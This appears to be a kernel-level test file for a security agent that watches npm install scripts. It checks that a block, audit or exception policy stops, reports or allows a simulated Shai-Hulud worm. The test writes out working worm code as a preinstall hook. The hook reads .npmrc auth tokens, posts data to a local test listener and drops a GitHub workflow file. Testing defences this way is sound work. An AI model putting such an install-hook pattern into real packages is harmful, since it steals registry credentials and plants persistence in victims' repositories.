/**
 * The Shai-Hulud worm's steps, from a local npm package's `preinstall` in
 * a real `npm install ./worm-1.0.0.tgz --offline`, under
 * dependencies.install_scripts: it reads `.npmrc` from $HOME and from the
 * project, posts a token to an allowed API host (an address of a network
 * namespace the test makes), and drops `.github/workflows/shai-hulud.yml`
 * in the workspace. Each step runs in a process of its own, so that one
 * kill does not hide the next.
 *
 * Block mode: every step is refused or killed, nothing reaches the
 * listener, no workflow file stays, and every event names the package.
 * Audit mode: every step goes through, reported as audit with the
 * package. `except: [worm]`: the package runs freely.
 */
import assert from "node:assert/strict";
import { Agent } from "../agent/agent.ts";
import { parsePolicy } from "../policy/parse.ts";
import type { RingfenceEvent } from "../sensors/events.ts";
import type { FileSystemEvent } from "../sensors/file_system.ts";
import type { NetworkEvent } from "../sensors/network.ts";
import { kernelTest, ROOT } from "./helpers/kernel.ts";
import { TestNetns } from "./helpers/net_harness.ts";
import { Lines } from "./helpers/net_pair.ts";

const LISTENER = new URL("./helpers/net_listener.py", import.meta.url)
  .pathname;
const API = "10.78.0.1";
const HOME_TOKEN = "npm_HOMETOKEN0123456789abcdef";
const PROJECT_TOKEN = "npm_PROJECTTOKEN0123456789abc";
const WORM = {
  ecosystem: "npm",
  name: "worm",
  version: "1.0.0",
  script: "preinstall",
};

/**
 * The worm's files: preinstall.js runs each step in a child and prints
 * how it ended.
 */
const WORM_FILES: Record<string, string> = {
  "preinstall.js": `const { spawnSync } = require("child_process");
for (const step of ["steal", "post", "workflow"]) {
  const r = spawnSync(process.execPath, [__dirname + "/" + step + ".js"],
    { encoding: "utf8" });
  console.log("step " + step + " signal=" + r.signal + " out=" +
    JSON.stringify(r.stdout));
}
`,
  "steal.js": `const fs = require("fs"), path = require("path");
for (const dir of [process.env.HOME, process.env.INIT_CWD]) {
  process.stdout.write("loot " + fs.readFileSync(path.join(dir, ".npmrc")));
}
`,
  "post.js": `const s = require("net").connect(443, "${API}", () => {
  s.end("POST /repos HTTP/1.1\\r\\nHost: api\\r\\n\\r\\nstolen");
  process.stdout.write("posted\\n");
});
s.on("error", (e) => process.stdout.write("post " + e.code + "\\n"));
`,
  "workflow.js": `const path = require("path");
require("fs").writeFileSync(
  path.join(process.env.INIT_CWD, ".github/workflows/shai-hulud.yml"),
  "on: push\\njobs: {}\\n");
process.stdout.write("dropped\\n");
`,
};

interface Places {
  root: string;
  home: string;
  project: string;
  tarball: string;
  netns: TestNetns;
  listener: Deno.ChildProcess;
  received: string[];
}

async function sh(command: string[], cwd: string): Promise<string> {
  const output = await new Deno.Command(command[0], {
    args: command.slice(1),
    cwd,
    stdout: "piped",
    stderr: "piped",
  }).output();
  if (!output.success) {
    throw new Error(
      `${command.join(" ")}: ${new TextDecoder().decode(output.stderr)}`,
    );
  }
  return new TextDecoder().decode(output.stdout);
}

/** The home, the project, the worm's tarball and the API's listener. */
async function setUp(): Promise<Places> {
  const root = await Deno.realPath(await Deno.makeTempDir());
  const home = `${root}/home`, project = `${root}/project`;
  const worm = `${root}/worm`;
  for (const dir of [home, `${project}/.github/workflows`, worm]) {
    await Deno.mkdir(dir, { recursive: true });
  }
  await Deno.writeTextFile(
    `${home}/.npmrc`,
    `//registry.npmjs.org/:_authToken=${HOME_TOKEN}\n`,
  );
  await Deno.writeTextFile(
    `${project}/.npmrc`,
    `//registry.npmjs.org/:_authToken=${PROJECT_TOKEN}\n`,
  );
  await Deno.writeTextFile(
    `${project}/package.json`,
    JSON.stringify({ name: "victim", version: "1.0.0", private: true }),
  );
  await Deno.writeTextFile(
    `${worm}/package.json`,
    JSON.stringify({
      name: "worm",
      version: "1.0.0",
      scripts: { preinstall: "node preinstall.js" },
    }),
  );
  for (const [file, text] of Object.entries(WORM_FILES)) {
    await Deno.writeTextFile(`${worm}/${file}`, text);
  }
  // Packed before any agent runs: npm pack runs no install script.
  const name = (await sh(["npm", "pack", "--pack-destination", root], worm))
    .trim().split("\n").pop()!;
  const netns = await TestNetns.create([
    ["addr", "add", `${API}/32`, "dev", "lo"],
  ]);
  const listener = new Deno.Command("nsenter", {
    args: [`--net=/run/netns/${netns.name}`, "python3", LISTENER, "tcp:443"],
    stdout: "piped",
    stderr: "null",
  }).spawn();
  const lines = new Lines(listener);
  assert.equal(await lines.next(), "ready");
  const received: string[] = [];
  (async () => {
    for (let line = await lines.next(); line; line = await lines.next()) {
      received.push(line);
    }
  })();
  return {
    root,
    home,
    project,
    tarball: `${root}/${name}`,
    netns,
    listener,
    received,
  };
}

async function tearDown(places: Places): Promise<void> {
  places.listener.kill("SIGKILL");
  await places.listener.status;
  await places.netns.close();
  await Deno.remove(places.root, { recursive: true });
}

interface Install {
  events: RingfenceEvent[];
  stdout: string;
  success: boolean;
}

/** `npm install ./worm-1.0.0.tgz --offline` in the project, under an agent. */
async function install(places: Places, policy: string): Promise<Install> {
  const saved = {
    HOME: Deno.env.get("HOME"),
    GITHUB_WORKSPACE: Deno.env.get("GITHUB_WORKSPACE"),
  };
  Deno.env.set("HOME", places.home);
  Deno.env.set("GITHUB_WORKSPACE", places.project);
  try {
    const agent = await Agent.start({
      policy: parsePolicy(policy, "test.yaml"),
      spawner: true,
      sensorsDir: `${ROOT}bpf/build`,
    });
    const events: RingfenceEvent[] = [];
    agent.subscribe((event) => events.push(event));
    try {
      const output = await new Deno.Command("nsenter", {
        args: [
          `--net=/run/netns/${places.netns.name}`,
          "npm",
          "install",
          places.tarball,
          "--offline",
          "--no-audit",
          "--no-fund",
          "--foreground-scripts",
          "--loglevel=error",
        ],
        cwd: places.project,
        stdout: "piped",
        stderr: "piped",
        env: { npm_config_cache: `${places.root}/npm-cache` },
      }).output();
      await new Promise((resolve) => setTimeout(resolve, 300));
      agent.flush();
      return {
        events,
        stdout: new TextDecoder().decode(output.stdout) +
          new TextDecoder().decode(output.stderr),
        success: output.success,
      };
    } finally {
      await agent.stop();
    }
  } finally {
    for (const [name, value] of Object.entries(saved)) {
      if (value === undefined) Deno.env.delete(name);
      else Deno.env.set(name, value);
    }
  }
}

function policy(mode: string, except = ""): string {
  return `version: 1
mode: ${mode}
network:
  allow: ["${API}:443"]
dependencies:
  install_scripts:
    network: deny
    files: protect-secrets
    action: deny
${except}`;
}

/** The worm's network and file events (those naming any package). */
function wormEvents(events: RingfenceEvent[]) {
  const named = events.filter((event) =>
    event.type !== "process_event" &&
    (event as { dependency?: unknown }).dependency
  );
  return {
    network: named.filter((event): event is NetworkEvent =>
      event.type === "network_event" && event.kind === "connect"
    ),
    files: named.filter((event): event is FileSystemEvent =>
      event.type === "file_system_event"
    ),
  };
}

function assertWorm(event: RingfenceEvent): void {
  const { dependency } = event as { dependency?: Record<string, unknown> };
  assert.ok(dependency, JSON.stringify(event));
  for (const [key, value] of Object.entries(WORM)) {
    assert.equal(dependency[key], value, JSON.stringify(dependency));
  }
}

const shown = (events: RingfenceEvent[]) =>
  JSON.stringify(events.filter((event) => event.type !== "process_event"));

const workflowFile = (places: Places) =>
  `${places.project}/.github/workflows/shai-hulud.yml`;

kernelTest(
  "Shai-Hulud in npm install, block mode: each step refused or killed, the package named",
  async () => {
    const places = await setUp();
    try {
      const run = await install(places, policy("block"));
      assert.ok(run.success, run.stdout);
      // What the worm saw: no loot, no post, no drop.
      assert.ok(!run.stdout.includes(HOME_TOKEN), run.stdout);
      assert.ok(!run.stdout.includes(PROJECT_TOKEN), run.stdout);
      assert.match(run.stdout, /step steal signal=SIGKILL out=""/);
      assert.match(run.stdout, /step post signal=null out="post EPERM\\n"/);
      assert.match(run.stdout, /step workflow signal=SIGKILL out=""/);
      assert.deepEqual(places.received, []);
      // Killed at the open that created it, before its first byte; the
      // agent removed the empty file.
      await assert.rejects(
        Deno.stat(workflowFile(places)),
        Deno.errors.NotFound,
      );

      const { network, files } = wormEvents(run.events);
      const post = network.find((event) => event.daddr === API);
      assert.ok(post, shown(run.events));
      assert.equal(post.verdict, "deny");
      assert.equal(post.reason, "install_script");
      assertWorm(post);
      const read = files.find((event) => event.kind === "read");
      assert.ok(read, shown(run.events));
      assert.equal(read.path, `${places.home}/.npmrc`);
      assert.equal(read.verdict, "deny");
      assert.equal(read.killed, true);
      assert.match(read.reason, /^dependencies\.install_scripts: secret/);
      assertWorm(read);
      const drop = files.find((event) => event.path === workflowFile(places));
      assert.ok(drop, shown(run.events));
      assert.equal(drop.kind, "create");
      assert.equal(drop.verdict, "deny");
      assert.equal(drop.killed, true);
      assert.equal(drop.removed, true);
      assertWorm(drop);
    } finally {
      await tearDown(places);
    }
  },
);

kernelTest(
  "Shai-Hulud in npm install, audit mode: each step reported as audit with the package",
  async () => {
    const places = await setUp();
    try {
      const run = await install(places, policy("audit"));
      assert.ok(run.success, run.stdout);
      assert.match(run.stdout, /step post signal=null out="posted\\n"/);
      const { network, files } = wormEvents(run.events);
      const post = network.find((event) => event.daddr === API);
      assert.equal(post?.verdict, "audit", shown(run.events));
      assert.equal(post.reason, "install_script");
      assertWorm(post);
      const reads = files.filter((event) => event.kind === "read");
      assert.deepEqual(
        reads.map((event) => event.path).sort(),
        [`${places.home}/.npmrc`, `${places.project}/.npmrc`].sort(),
        shown(run.events),
      );
      for (const event of reads) {
        assert.equal(event.verdict, "audit");
        assert.equal(event.killed, undefined);
        assertWorm(event);
      }
      const drop = files.find((event) => event.path === workflowFile(places));
      assert.equal(drop?.verdict, "audit", shown(run.events));
      assertWorm(drop);
      assert.equal(
        await Deno.readTextFile(workflowFile(places)),
        "on: push\njobs: {}\n",
      );
    } finally {
      await tearDown(places);
    }
  },
);

kernelTest(
  "Shai-Hulud in npm install with except: [worm]: the package runs freely",
  async () => {
    const places = await setUp();
    try {
      const run = await install(
        places,
        policy("block", "    except: [worm]\n"),
      );
      assert.ok(run.success, run.stdout);
      assert.ok(run.stdout.includes(HOME_TOKEN), run.stdout);
      assert.match(run.stdout, /step post signal=null out="posted\\n"/);
      assert.match(run.stdout, /step workflow signal=null out="dropped\\n"/);
      await new Promise((resolve) => setTimeout(resolve, 200));
      assert.ok(
        places.received.some((line) => line.startsWith(`tcp ${API}:443`)),
        `listener: ${places.received}`,
      );
      const { network } = wormEvents(run.events);
      const post = network.find((event) => event.daddr === API);
      assert.equal(post?.verdict, "allow", shown(run.events));
      assertWorm(post);
    } finally {
      await tearDown(places);
    }
  },
);
